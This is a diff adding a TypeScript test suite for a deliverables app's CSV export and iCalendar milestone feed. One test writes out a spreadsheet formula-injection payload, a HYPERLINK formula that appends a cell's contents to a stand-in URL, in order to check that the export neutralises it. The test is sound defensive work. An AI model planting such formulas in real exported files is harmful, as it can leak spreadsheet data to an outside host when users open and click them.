@@ -1,0 +1,159 @@
+import { parse } from 'csv-parse/sync';
+import { toGlobalId } from 'graphql-relay';
+import type ICALModule from 'ical.js' with { 'resolution-mode': 'import' };
+import deliverablesJson from '../../../server/db/seed/data/deliverables.json';
+import { createTestApp, type TestApp } from '../../helpers/app';
+import { asUser } from '../../helpers/auth';
+import { CREATE_DELIVERABLE, mutate, partyIds, POST_UPDATE } from '../../fixtures/deliverables';
+
+const records = deliverablesJson as {
+  key: string;
+  type: string;
+  programmeKey: string | null;
+  status: string;
+  due?: { label: string; latest: string } | null;
+  ownerPartyKeys: string[];
+  contributorPartyKeys: string[];
+}[];
+
+// ical.js ships a CommonJS build for require(); its type declarations describe the ES module.
+// eslint-disable-next-line @typescript-eslint/no-require-imports
+const ICAL: typeof ICALModule = require('ical.js');
+
+let app: TestApp;
+let programmes: Record<string, string>;
+beforeAll(async () => {
+  app = await createTestApp();
+  const rows: { key: string; id: string }[] = await app.dataSource.query('SELECT key, id FROM programme');
+  programmes = Object.fromEntries(rows.map((r) => [r.key, toGlobalId('Programme', r.id)]));
+});
+afterAll(() => app.close());
+
+async function get(path: string, headers: Record<string, string> = {}) {
+  const response = await fetch(`${app.baseUrl}${path}`, { headers });
+  return { status: response.status, type: response.headers.get('content-type'), body: await response.text() };
+}
+
+describe('CSV of deliverables', () => {
+  it('parses with a standard CSV parser and holds exactly the filtered deliverables', async () => {
+    const res = await get(`/exports/deliverables.csv?programmeId=${encodeURIComponent(programmes.vvtb!)}&status=DONE`);
+    expect(res.status).toBe(200);
+    expect(res.type).toMatch(/^text\/csv/);
+    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
+    const expected = records.filter((r) => r.programmeKey === 'vvtb' && r.status === 'DONE');
+    expect(rows.map((r) => r.key).sort()).toEqual(expected.map((r) => r.key).sort());
+    for (const row of rows) expect(row.status).toBe('DONE');
+    const letter = rows.find((r) => r.key === 'kamerbrief-hoofdlijnen-vvtb-2022')!;
+    expect(letter).toMatchObject({ kind: 'MILESTONE', owners: 'VWS', dueLatest: '2022-12-02', duePrecision: 'DAY' });
+    expect(Object.keys(letter)).not.toContain('lastUpdateText');
+  });
+
+  it('keeps commas, quotes and line breaks in texts intact', async () => {
+    const [{ id: zin }] = await app.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
+    const title = 'Advies "scherp", met komma; en\nregelovergang';
+    const { createDeliverable } = await mutate(app, 'vws.editor@example.org', CREATE_DELIVERABLE, {
+      title,
+      dueLabel: 'Q4 2031',
+      ownerPartyIds: [toGlobalId('Party', zin)],
+    });
+    await mutate(app, 'zin.editor@example.org', POST_UPDATE, {
+      deliverableId: createDeliverable.id,
+      health: 'AT_RISK',
+      text: 'Capaciteit, "krap".',
+    });
+    const res = await get(`/exports/deliverables.csv?dueAfter=2031-01-01`, await asUser(app, 'zin.viewer@example.org'));
+    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({
+      title,
+      health: 'AT_RISK',
+      lastUpdateText: 'Capaciteit, "krap".',
+      dueLabel: 'Q4 2031',
+    });
+  });
+
+  it('neutralises cells a spreadsheet would run as a formula', async () => {
+    const [{ id: zin }] = await app.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
+    const formula = '=HYPERLINK("http://x"&A1,"Klik hier")';
+    const { createDeliverable } = await mutate(app, 'vws.editor@example.org', CREATE_DELIVERABLE, {
+      title: '@SUM(A1:A9)',
+      dueLabel: 'Q2 2029',
+      ownerPartyIds: [toGlobalId('Party', zin)],
+    });
+    await mutate(app, 'zin.editor@example.org', POST_UPDATE, {
+      deliverableId: createDeliverable.id,
+      health: 'AT_RISK',
+      text: formula,
+    });
+    const res = await get(
+      `/exports/deliverables.csv?dueAfter=2029-01-01&dueBefore=2029-12-31`,
+      await asUser(app, 'zin.viewer@example.org'),
+    );
+    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ title: "'@SUM(A1:A9)", lastUpdateText: `'${formula}` });
+  });
+
+  it.each([
+    ['an unknown status', '?status=LATE', 400, 'BAD_USER_INPUT'],
+    ['a malformed day', '?dueBefore=31-12-2025', 400, 'BAD_USER_INPUT'],
+    [
+      'an id of the wrong type',
+      `?programmeId=${encodeURIComponent(toGlobalId('Party', '00000000-0000-0000-0000-000000000000'))}`,
+      400,
+      'BAD_USER_INPUT',
+    ],
+  ])('answers %s with %s', async (_case, query, status, code) => {
+    const res = await get(`/exports/deliverables.csv${query}`);
+    expect(res.status).toBe(status);
+    expect(JSON.parse(res.body).errors[0].extensions.code).toBe(code);
+  });
+
+  it('answers a bad token with 401, like /graphql', async () => {
+    const res = await get('/exports/deliverables.csv', { authorization: 'Bearer not-a-token' });
+    expect(res.status).toBe(401);
+    expect(JSON.parse(res.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
+  });
+});
+
+describe('iCalendar feed of milestones', () => {
+  it('parses with ical.js and holds the party’s dated milestones and decisions as all-day events', async () => {
+    const { zonmw } = await partyIds(app, ['zonmw']);
+    const res = await get(`/exports/milestones.ics?partyId=${encodeURIComponent(zonmw!)}`);
+    expect(res.status).toBe(200);
+    expect(res.type).toMatch(/^text\/calendar/);
+    const calendar = new ICAL.Component(ICAL.parse(res.body));
+    const events = calendar.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
+    const expected = records.filter(
+      (r) =>
+        r.type !== 'DELIVERABLE' &&
+        r.due &&
+        r.status !== 'CANCELLED' &&
+        [...r.ownerPartyKeys, ...r.contributorPartyKeys].includes('zonmw'),
+    );
+    expect(expected.length).toBeGreaterThan(2);
+    expect(events).toHaveLength(expected.length);
+    const start = new Map(events.map((e) => [e.summary, e.startDate]));
+    const kppz = records.find((r) => r.key === 'kppz-start')!;
+    const event = events.find((e) => e.description.includes(kppz.due!.label))!;
+    expect(event.startDate.isDate).toBe(true);
+    expect(event.startDate.toString()).toBe(kppz.due!.latest);
+    expect(start.size).toBe(events.length);
+  });
+
+  it('requires the party', async () => {
+    const res = await get('/exports/milestones.ics');
+    expect(res.status).toBe(400);
+    expect(JSON.parse(res.body).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'partyId' });
+  });
+});
+
+describe('database backstops answer as client errors', () => {
+  it.each([
+    ['an impossible day', '2025-02-30'],
+    ['year zero', '0000-01-01'],
+  ])('export refuses %s with 400', async (_case, day) => {
+    const res = await fetch(`${app.baseUrl}/exports/deliverables.csv?asOf=${day}`);
+    expect(res.status).toBe(400);
+  });
+});
